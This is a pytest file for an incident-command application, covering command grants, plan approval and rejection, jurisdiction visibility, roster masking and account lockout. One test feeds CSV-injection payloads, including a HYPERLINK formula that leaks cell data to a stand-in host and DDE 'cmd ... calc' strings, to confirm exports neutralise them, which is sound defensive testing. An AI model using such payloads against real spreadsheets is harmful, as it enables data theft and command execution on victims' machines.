"""Delegated authority and the plan lifecycle: who may see, propose, approve and reject, and when."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import select
from store_support import PASSWORD, tiny_plan, tiny_scenario

from command import audit
from command.authority import GrantLimits, grant_command, grants_of, revoke_command
from command.errors import AuthFailed, BadInput, Conflict, NotAuthorised, NotFound
from command.incidents import (
    RosterRow,
    close_incident,
    get_incident,
    import_roster,
    list_incidents,
    open_incident,
    roster,
)
from command.plans import (
    Shown,
    activate_plan,
    approve_plan,
    create_plan,
    diff,
    list_plans,
    reject_plan,
    revise_plan,
    view_plan,
)
from command.store import Decision
from command.users import list_users


@pytest.fixture
def incident(world):
    """A Pudong incident from the tiny scenario, command granted to cmd_pudong, one proposed plan."""
    scenario = tiny_scenario()
    iid = open_incident(world.store, world["admin"], scenario, jurisdiction="pudong")
    grant_command(world.store, world["admin"], iid, "cmd_pudong", hours=8, reason="on-site command")
    pid = create_plan(world.store, world["planner"], iid, tiny_plan(scenario), scenario=scenario)
    return iid, pid, scenario


def _approve(world, who: str, pid: int, *, version: int | None = None):
    view = view_plan(world.store, world[who], pid, version)
    return approve_plan(world.store, world[who], pid, password=PASSWORD, shown=view.shown())


def test_the_holder_approves_and_what_was_shown_is_recorded(world, incident):
    """The commander holding the incident approves; the decision keeps the version, digest and forecast shown."""
    _, pid, _ = incident
    view = view_plan(world.store, world["cmd_pudong"], pid)
    approve_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=view.shown(), note="go")
    after = view_plan(world.store, world["cmd_pudong"], pid)
    assert after.status == "approved"
    (decision,) = after.decisions
    assert (decision.decision, decision.by, decision.version) == ("approved", "cmd_pudong", 1)
    assert decision.shown == {"plan_id": pid, "version": 1, "digest": view.digest, "forecast": view.forecast}
    entry = audit.entries(world.store)[-1]
    assert entry.action == "plan_approve" and json.loads(entry.details)["digest"] == view.digest


@pytest.mark.parametrize("who", ["cmd_pudong2", "cmd_city", "planner", "obs_pudong", "admin"])
def test_nobody_but_the_holder_may_approve(world, incident, who):
    """Another commander (even one above the district), a planner, an observer or an admin is refused."""
    _, pid, _ = incident
    with pytest.raises(NotAuthorised):
        _approve(world, who, pid)
    assert view_plan(world.store, world["admin"], pid).status == "proposed"


def test_wrong_password_at_approval_is_refused_and_counted(world, incident):
    """Approval re-checks the password; a wrong one refuses the approval and counts toward the lock-out."""
    _, pid, _ = incident
    view = view_plan(world.store, world["cmd_pudong"], pid)
    with pytest.raises(AuthFailed):
        approve_plan(world.store, world["cmd_pudong"], pid, password="wrong password!", shown=view.shown())
    assert view_plan(world.store, world["admin"], pid).status == "proposed"
    assert audit.entries(world.store)[-1].action == "login_failed"


def test_a_stale_version_is_refused_with_a_clear_message(world, incident):
    """Approving version 1 after version 2 was made is refused and names both versions."""
    _, pid, scenario = incident
    shown_v1 = view_plan(world.store, world["cmd_pudong"], pid).shown()
    assert revise_plan(world.store, world["planner"], pid, tiny_plan(scenario, count=7)) == 2
    with pytest.raises(Conflict, match="shown version 1, the current version is 2"):
        approve_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=shown_v1)
    _approve(world, "cmd_pudong", pid)
    assert view_plan(world.store, world["admin"], pid).status == "approved"


def test_a_forged_digest_is_refused(world, incident):
    """What was shown must be the stored plan: a digest that does not match is refused."""
    _, pid, _ = incident
    view = view_plan(world.store, world["cmd_pudong"], pid)
    forged = Shown(pid, view.version, "0" * 64, view.forecast)
    with pytest.raises(Conflict, match="not the stored plan"):
        approve_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=forged)


def test_a_decided_plan_cannot_be_decided_again(world, incident):
    """Once approved, a second approval or a rejection is refused as already decided."""
    _, pid, _ = incident
    _approve(world, "cmd_pudong", pid)
    with pytest.raises(Conflict, match="already approved"):
        _approve(world, "cmd_pudong", pid)
    with pytest.raises(Conflict, match="already approved"):
        reject_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, reason="changed my mind",
                    shown=view_plan(world.store, world["cmd_pudong"], pid).shown())  # fmt: skip


def test_rejection_needs_a_reason_and_records_it(world, incident):
    """A rejection without a reason is refused; with one, it is recorded."""
    _, pid, _ = incident
    shown = view_plan(world.store, world["cmd_pudong"], pid).shown()
    with pytest.raises(BadInput, match="reason"):
        reject_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=shown, reason="  ")
    reject_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=shown, reason="too few testers")
    view = view_plan(world.store, world["obs_pudong"], pid)
    assert view.status == "rejected" and view.decisions[0].reason == "too few testers"


def test_transfer_moves_authority_and_revocation_removes_it(world, incident):
    """A new grant transfers command (the old holder loses it); a revocation leaves no holder."""
    iid, pid, _ = incident
    grant_command(world.store, world["admin"], iid, "cmd_pudong2", hours=4, reason="shift change")
    with pytest.raises(NotAuthorised, match="does not hold command"):
        _approve(world, "cmd_pudong", pid)
    assert get_incident(world.store, world["obs_pudong"], iid).holder == "cmd_pudong2"
    revoke_command(world.store, world["admin"], iid, reason="incident scaled down")
    with pytest.raises(NotAuthorised, match="no one holds command"):
        _approve(world, "cmd_pudong2", pid)
    grants = grants_of(world.store, world["admin"], iid)
    assert [g.holder for g in grants] == ["cmd_pudong", "cmd_pudong2"]
    assert all(g.revoked_at is not None for g in grants)


def test_an_expired_grant_no_longer_authorises(world, incident):
    """Command granted for eight hours is gone after eight hours."""
    _, pid, _ = incident
    world.clock.advance(hours=8, seconds=1)
    with pytest.raises(NotAuthorised, match="no one holds command"):
        _approve(world, "cmd_pudong", pid)


def test_grants_go_only_to_commanders_who_can_see_the_incident(world, incident):
    """Command cannot go to a planner, to a commander of another district, or be granted by a non-admin."""
    iid, _, _ = incident
    with pytest.raises(BadInput, match="only an active commander"):
        grant_command(world.store, world["admin"], iid, "planner")
    with pytest.raises(BadInput, match="outside their jurisdiction"):
        grant_command(world.store, world["admin"], iid, "cmd_huangpu")
    with pytest.raises(NotAuthorised):
        grant_command(world.store, world["cmd_pudong"], iid, "cmd_pudong2")
    with pytest.raises(NotFound):
        grant_command(world.store, world["admin"], iid, "no_such_user")


def test_grant_limits_keep_resources_out_of_a_plan(world, incident):
    """A holder limited to other resources cannot approve a plan that commits the 'local' tester pool."""
    iid, pid, _ = incident
    grant_command(world.store, world["admin"], iid, "cmd_pudong", limits=GrantLimits(resources=("buses",)))
    with pytest.raises(NotAuthorised, match="resource 'local' is outside this authority"):
        _approve(world, "cmd_pudong", pid)
    grant_command(world.store, world["admin"], iid, "cmd_pudong", limits=GrantLimits(resources=("local",)))
    _approve(world, "cmd_pudong", pid)


def test_users_see_only_their_jurisdictions_incidents(world, incident):
    """Pudong and city users see the Pudong incident; Xuhui and Huangpu users do not, not even by id."""
    iid, pid, _ = incident
    for who in ("obs_pudong", "cmd_pudong", "planner", "cmd_city", "admin", "pd_planner"):
        assert [i.id for i in list_incidents(world.store, world[who])] == [iid]
    for who in ("obs_xuhui", "cmd_huangpu"):
        assert list_incidents(world.store, world[who]) == []
        with pytest.raises(NotFound):
            get_incident(world.store, world[who], iid)
        with pytest.raises(NotFound):
            view_plan(world.store, world[who], pid)
        with pytest.raises(NotFound):
            list_plans(world.store, world[who], iid)


def test_incidents_can_only_be_opened_within_ones_own_jurisdiction(world):
    """A Pudong planner cannot open an incident in Huangpu; an observer cannot open one at all."""
    with pytest.raises(BadInput, match="outside"):
        open_incident(world.store, world["pd_planner"], tiny_scenario(), jurisdiction="huangpu")
    with pytest.raises(NotAuthorised):
        open_incident(world.store, world["obs_pudong"], tiny_scenario(), jurisdiction="pudong")


def test_roster_is_masked_for_those_who_do_not_need_it(world, incident):
    """Names and phones are plain for the admin and the holder, masked for the planner, observer and others."""
    iid, _, _ = incident
    people = [RosterRow("local", "张三丰", "13812345678", "leader"),
              RosterRow("local", "李四", "13900001111", "member")]  # fmt: skip
    import_roster(world.store, world["cmd_pudong"], iid, people)
    for who in ("admin", "cmd_pudong"):
        rows, masked = roster(world.store, world[who], iid)
        assert not masked and rows == people
    for who in ("planner", "obs_pudong", "cmd_pudong2", "cmd_city"):
        rows, masked = roster(world.store, world[who], iid)
        assert masked
        assert [(r.name, r.phone) for r in rows] == [("张**", "138******78"), ("李*", "139******11")]
    with pytest.raises(NotAuthorised):
        import_roster(world.store, world["planner"], iid, people)


def test_user_list_masks_personal_fields_for_non_admins(world):
    """Only admins see users' names and phone numbers; others see them masked, and only their jurisdiction."""
    admin_view = {u.username: u for u in list_users(world.store, world["admin"])}
    assert admin_view["cmd_pudong"].phone.startswith("1380013")
    pudong_view = {u.username: u for u in list_users(world.store, world["obs_pudong"])}
    assert set(pudong_view) == {"cmd_pudong", "cmd_pudong2", "obs_pudong", "pd_planner"}
    assert all("*" in u.phone and u.display_name.endswith("*") for u in pudong_view.values())


def test_lifecycle_through_activation_supersession_and_close(world, incident):
    """approved -> active; a newer plan supersedes it; closing completes the active plan and withdraws the rest."""
    iid, pid, scenario = incident
    _approve(world, "cmd_pudong", pid)
    with pytest.raises(NotAuthorised):
        activate_plan(world.store, world["planner"], pid)
    activate_plan(world.store, world["cmd_pudong"], pid)
    assert get_incident(world.store, world["admin"], iid).active_plan == 1
    pid2 = create_plan(world.store, world["planner"], iid, tiny_plan(scenario, count=6), scenario=scenario)
    _approve(world, "cmd_pudong", pid2)
    activate_plan(world.store, world["cmd_pudong"], pid2)
    assert view_plan(world.store, world["admin"], pid).status == "superseded"
    pid3 = create_plan(world.store, world["planner"], iid, tiny_plan(scenario, count=5), scenario=scenario)
    assert diff(world.store, world["planner"], (pid2, None), (pid3, None))[-1].startswith("~")
    with pytest.raises(Conflict):
        close_incident(world.store, world["cmd_pudong2"], iid)
    close_incident(world.store, world["cmd_pudong"], iid, reason="all tested")
    statuses = [view_plan(world.store, world["admin"], p).status for p in (pid, pid2, pid3)]
    assert statuses == ["superseded", "completed", "withdrawn"]
    assert list_incidents(world.store, world["admin"]) == []
    assert get_incident(world.store, world["admin"], iid).phase == "archive"
    with pytest.raises(Conflict):
        create_plan(world.store, world["planner"], iid, tiny_plan(scenario), scenario=scenario)


def test_plans_for_another_scenario_or_beyond_its_resources_are_refused(world, incident):
    """A plan must fit the incident's scenario: the right scenario name and no more testers than it has."""
    iid, _, scenario = incident
    with pytest.raises(BadInput, match="assigns 9 any testers of 'local', which has 8"):
        create_plan(world.store, world["planner"], iid, tiny_plan(scenario, count=9), scenario=scenario)
    other = tiny_plan(scenario)
    other = other.model_copy(update={"meta": other.meta.model_copy(update={"scenario": "bund_light_show"})})
    with pytest.raises(BadInput, match=r"meta\.scenario"):
        create_plan(world.store, world["planner"], iid, other, scenario=scenario)


def test_refusals_change_nothing(world, incident):
    """A refused approval leaves no decision row behind."""
    _, pid, _ = incident
    for who in ("cmd_pudong2", "obs_pudong"):
        with pytest.raises((NotAuthorised, Conflict)):
            _approve(world, who, pid)
    with world.store.read() as session:
        assert session.scalars(select(Decision)).all() == []


def test_a_draft_is_not_decided_until_it_is_proposed(world, incident):
    """A draft cannot be approved; once proposed it can, and proposing it twice is refused."""
    from command.plans import propose_draft

    iid, _, scenario = incident
    draft = create_plan(world.store, world["planner"], iid, tiny_plan(scenario, count=7), scenario=scenario,
                        propose=False)  # fmt: skip
    assert view_plan(world.store, world["admin"], draft).status == "draft"
    with pytest.raises(Conflict, match="a draft, not proposed"):
        _approve(world, "cmd_pudong", draft)
    propose_draft(world.store, world["planner"], draft)
    with pytest.raises(Conflict, match="not a draft"):
        propose_draft(world.store, world["planner"], draft)
    _approve(world, "cmd_pudong", draft)
    assert view_plan(world.store, world["admin"], draft).status == "approved"


def test_a_district_admin_acts_only_on_accounts_of_its_own_district(world):  # type: ignore[no-untyped-def]
    """A Pudong admin can disable and re-enable a Pudong observer, but not the city's planner, another district's
    observer or the city admin; each refusal reads like an unknown user's, and changes nothing (issue 21, item 1)."""
    from command.security import authenticate
    from command.store import User
    from command.users import add_user, set_active

    add_user(world.store, world["admin"], username="pd_admin", password=PASSWORD, role="admin", jurisdiction="pudong")
    pd_admin = authenticate(world.store, "pd_admin", PASSWORD)
    set_active(world.store, pd_admin, "obs_pudong", False)
    set_active(world.store, pd_admin, "obs_pudong", True)
    for name in ("planner", "obs_xuhui", "admin", "ghost"):
        with pytest.raises(NotFound) as caught:
            set_active(world.store, pd_admin, name, False)
        assert str(caught.value) == f"user {name!r}: not found in jurisdiction 'pudong'"
    with world.store.read() as session:
        assert all(u.active for u in session.scalars(select(User)))


def test_a_mistyped_approval_password_never_locks_the_only_approver_out(world, incident):
    """The incident's only approver mistypes their password at approval ten times from their desk: the desk waits
    (each refusal audited), the account never locks, and they approve once the wait is over. When failures from
    elsewhere do lock the account, an admin over it unlocks it (audited) and the approval goes through (issue 21,
    item 11)."""
    from command.errors import AccountLocked
    from command.security import authenticate
    from command.users import unlock_user

    _, pid, _ = incident
    holder = world["cmd_pudong"]
    shown = view_plan(world.store, holder, pid).shown()
    for _ in range(10):
        with pytest.raises(AuthFailed) as failed:
            approve_plan(world.store, holder, pid, password="fat fingers!", shown=shown, source="desk")
        assert not isinstance(failed.value, AccountLocked)
        world.clock.advance(seconds=failed.value.wait_s or 0)
    waits = [e for e in audit.entries(world.store) if e.subject == "cmd_pudong" and e.action == "login_failed"]
    assert len(waits) == 10 and sum('"wait_until"' in e.details for e in waits) == 8
    approve_plan(world.store, holder, pid, password=PASSWORD, shown=shown, source="desk")
    assert view_plan(world.store, world["admin"], pid).status == "approved"

    second = create_plan(world.store, world["planner"], incident[0], tiny_plan(incident[2], count=7))
    for source in ("elsewhere", "elsewhere", "another place"):
        with pytest.raises(AuthFailed):
            authenticate(world.store, "cmd_pudong", "a guess at it", source=source)
    shown = view_plan(world.store, holder, second).shown()
    with pytest.raises(AccountLocked, match="an admin can unlock it"):
        approve_plan(world.store, holder, second, password=PASSWORD, shown=shown, source="desk")
    unlock_user(world.store, world["admin"], "cmd_pudong", reason="locked by guesses from elsewhere")
    assert audit.entries(world.store)[-1].action == "user_update"
    approve_plan(world.store, holder, second, password=PASSWORD, shown=shown, source="desk")
    assert view_plan(world.store, world["admin"], second).status == "approved"


def test_role_changes_are_bounded_by_jurisdiction_and_by_command_held(world, incident):
    """A Pudong admin makes a Pudong observer a planner (audited, with the role before), but never changes a
    city-level or another district's account, nor their own; the incident's holder keeps their role until the
    grant is revoked; an unknown role is named."""
    from command.security import authenticate
    from command.store import User
    from command.users import add_user, set_role

    iid, _, _ = incident
    add_user(world.store, world["admin"], username="pd_admin", password=PASSWORD, role="admin", jurisdiction="pudong")
    pd_admin = authenticate(world.store, "pd_admin", PASSWORD)
    set_role(world.store, pd_admin, "obs_pudong", "planner", reason="joins the planning cell")
    entry = audit.entries(world.store)[-1]
    assert (entry.action, entry.actor, entry.subject) == ("user_update", "pd_admin", "obs_pudong")
    details = json.loads(entry.details)
    assert set(details.pop("rows")) == {f"users:{details_id(world, 'obs_pudong')}"}  # the row's hash, bound (audit)
    assert details == {"role": "planner", "role_before": "observer", "reason": "joins the planning cell"}
    assert authenticate(world.store, "obs_pudong", PASSWORD).role == "planner"
    for name in ("planner", "obs_xuhui", "admin", "ghost"):
        with pytest.raises(NotFound, match=f"user '{name}': not found in jurisdiction 'pudong'"):
            set_role(world.store, pd_admin, name, "observer")
    with pytest.raises(BadInput, match="own role"):
        set_role(world.store, pd_admin, "pd_admin", "observer")
    with pytest.raises(BadInput, match="'chief' is not one of"):
        set_role(world.store, pd_admin, "cmd_pudong2", "chief")
    with pytest.raises(NotAuthorised):
        set_role(world.store, world["cmd_city"], "obs_pudong", "observer")
    with pytest.raises(Conflict, match=f"holds command of incident {iid}"):
        set_role(world.store, pd_admin, "cmd_pudong", "observer")
    revoke_command(world.store, world["admin"], iid, reason="stood down")
    set_role(world.store, pd_admin, "cmd_pudong", "observer")
    with world.store.read() as session:
        roles = dict(session.execute(select(User.username, User.role)).all())
    assert (roles["cmd_pudong"], roles["planner"], roles["obs_xuhui"]) == ("observer", "planner", "observer")


def test_paperwork_csv_from_hostile_text_holds_no_formula(world):
    """An incident titled like a formula, a commander whose display name is one, a roster of them, formula-like
    grant, rejection and approval reasons: every cell of the exported CSVs reads as text to a spreadsheet (a
    leading quote where it would start a formula), and the title is there whole after its quote."""
    import csv
    import io

    from command.incidents import RosterRow, import_roster
    from command.paperwork import forms
    from command.security import authenticate
    from command.users import add_user

    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    scenario = tiny_scenario()
    add_user(world.store, world["admin"], username="cmd_evil", password=PASSWORD, role="commander",
             jurisdiction="pudong", display_name="@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip
    holder = authenticate(world.store, "cmd_evil", PASSWORD)
    iid = open_incident(world.store, world["admin"], scenario, jurisdiction="pudong", title=title)
    grant_command(world.store, world["admin"], iid, "cmd_evil", hours=8, reason="+1+1")
    import_roster(world.store, world["admin"], iid, [RosterRow("local", "-2+3+cmd|' /C calc'!A0", "+86 138 0000 0001",
                                                               "leader")])  # fmt: skip
    first = create_plan(world.store, world["planner"], iid, tiny_plan(scenario), scenario=scenario)
    reject_plan(world.store, holder, first, password=PASSWORD, reason="=1+1",
                shown=view_plan(world.store, holder, first).shown())  # fmt: skip
    second = create_plan(world.store, world["planner"], iid, tiny_plan(scenario, count=7), scenario=scenario)
    approve_plan(world.store, holder, second, password=PASSWORD, note="\t=cmd",
                 shown=view_plan(world.store, holder, second).shown())  # fmt: skip
    contents, _, _ = forms(world.store, holder, second)
    tables = {name: list(csv.DictReader(io.StringIO(text, newline=""))) for name, text in contents.items()
              if name.endswith(".csv")}  # fmt: skip
    # The assignment lists and the log; the plan carried no warnings, so their CSV holds its header only.
    assert len(tables) == 3 and all(rows for name, rows in tables.items() if not name.endswith("_warnings.csv"))
    formula = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    for rows in tables.values():
        for row in rows:
            assert not any(v.lstrip(" \t\r\n\u3000").startswith(formula) or v.startswith(formula)
                           for v in row.values()), row  # fmt: skip
            assert row["incident_name"] == "'" + title
    (leader,) = {r["leader_name"] for rows in tables.values() for r in rows if r.get("team") == "local"}
    assert leader == "'-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def warned(world):
    """A Pudong incident whose plan carries three warnings: six testers where the default plan has eight make the
    mean wait worse and cross both thresholds (a 30-minute wait; untested at the target finish time), as the
    simulation of both plans on the incident's seed says. Command is granted to cmd_pudong."""
    from store_support import DATA

    from command.plans import forecast_plan
    from scenarios import load_scenario

    scenario = load_scenario(DATA / "one_site_mmc.yaml",
                             overrides=["thresholds.max_wait_s=1800", "thresholds.target_finish_s=30000"])  # fmt: skip
    iid = open_incident(world.store, world["admin"], scenario, jurisdiction="pudong", seed=scenario.seed)
    grant_command(world.store, world["admin"], iid, "cmd_pudong", hours=8)
    plan = tiny_plan(scenario, count=6)
    pid = create_plan(world.store, world["planner"], iid, plan, scenario=scenario,
                      forecast=forecast_plan(scenario, plan, seed=scenario.seed))  # fmt: skip
    return iid, pid


def test_approving_a_plan_with_warnings_needs_each_acknowledged(world, warned):
    """Without acknowledgements, or with some missing, the approval is refused listing each warning left, and
    nothing changes; an unknown number or key is named; with each acknowledged (by number or key) the plan is
    approved and in effect at once, and the decision row and its audit entry record which were acknowledged (issue
    18: a commander approving a plan with warnings acknowledges each)."""
    from command.errors import Unacknowledged

    _, pid = warned
    holder = world["cmd_pudong"]
    view = view_plan(world.store, holder, pid)
    keys = [w.key for w in view.warnings]
    assert [w.kind for w in view.warnings] == ["worse", "breach", "breach"]
    assert keys[0] == "worse:mean_wait_min" and len(set(keys)) == 3
    before = len(audit.entries(world.store))
    with pytest.raises(Unacknowledged) as none:
        approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(), activate=True)
    lines = str(none.value).splitlines()
    assert lines[0] == f"plan {pid} version 1: 3 of its 3 warnings not acknowledged; read each and acknowledge it " \
                       "by number or key:"
    assert lines[1:] == [f"[{w.number}] {w.key}: {w.message}" for w in view.warnings]
    with pytest.raises(Unacknowledged) as some:
        approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(), acknowledged=[1, keys[2]])
    assert [w.number for w in some.value.warnings] == [2]
    with pytest.raises(BadInput, match=r"acknowledged: '4', 'worse:max_queue' not among plan \d+ version 1's "
                                       r"warnings \(it has warnings 1-3\)"):  # fmt: skip
        approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(),
                     acknowledged=[1, 2, 3, 4, "worse:max_queue"])  # fmt: skip
    assert view_plan(world.store, world["admin"], pid).status == "proposed"
    assert {e.action for e in audit.entries(world.store)[before:]} == {"login"}  # the password checks only

    approve_plan(world.store, holder, pid, password=PASSWORD, shown=view.shown(), activate=True,
                 acknowledged=["1", keys[1], 3])  # fmt: skip
    after = view_plan(world.store, world["admin"], pid)
    assert after.status == "active"
    (decision,) = after.decisions
    assert [(w["number"], w["key"], w["message"]) for w in decision.acknowledged] == [
        (w.number, w.key, w.message) for w in view.warnings]
    entry = next(e for e in reversed(audit.entries(world.store)) if e.action == "plan_approve")
    assert json.loads(entry.details)["acknowledged"] == keys
    with world.store.read() as session:
        row = session.scalars(select(Decision).where(Decision.plan_id == pid)).one()
    assert [w["key"] for w in json.loads(row.acknowledged_json)] == keys


def test_a_plan_without_warnings_needs_no_acknowledgement_and_takes_none(world, incident):
    """A plan whose forecast carries no warning is approved as before; acknowledging one it does not have is
    refused, naming it."""
    _, pid, _ = incident
    view = view_plan(world.store, world["cmd_pudong"], pid)
    assert view.warnings == ()
    with pytest.raises(BadInput, match=r"'1' not among .* warnings \(it has no warnings\)"):
        approve_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=view.shown(), acknowledged=[1])
    approve_plan(world.store, world["cmd_pudong"], pid, password=PASSWORD, shown=view.shown())
    assert view_plan(world.store, world["admin"], pid).decisions[0].acknowledged == ()


def details_id(world, username: str) -> int:  # type: ignore[no-untyped-def]
    """A user's row id."""
    from sqlalchemy import select

    from command.store import User

    with world.store.read() as session:
        return int(session.scalar(select(User.id).where(User.username == username)))
